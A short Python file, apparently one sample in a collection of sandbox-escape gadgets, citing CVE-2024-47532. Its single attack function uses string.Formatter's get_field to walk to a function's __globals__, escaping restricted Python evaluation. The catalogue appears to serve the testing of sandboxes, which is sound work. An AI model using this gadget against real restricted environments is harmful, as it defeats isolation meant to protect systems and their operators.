"""Class: module gadget. Source: CVE-2024-47532. Escape: string.Formatter walks attributes."""

import string


def attack(model, tokenizer, address):
    return string.Formatter().get_field("0.__globals__", (attack,), {})[0]
